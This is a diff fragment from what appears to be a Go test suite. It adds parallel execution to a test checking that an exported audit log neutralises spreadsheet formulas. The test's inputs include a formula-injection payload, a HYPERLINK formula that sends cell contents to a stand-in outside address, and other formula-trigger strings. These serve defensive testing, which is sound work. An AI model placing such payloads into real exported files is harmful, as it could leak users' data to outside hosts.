@@ -32,6 +32,7 @@ func (b *tab) saved(control, name string) string {
 
 // The audit log is saved as it is filtered. Whatever people wrote, a spreadsheet runs no formula.
 func TestAuditIsSavedAsItIsFiltered(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	const formula = `=HYPERLINK("http://192.0.2.1/?"&A1)`
 	for _, why := range []string{formula, "+1", "-1", "@SUM(A1)", "harmless, \"quoted\""} {
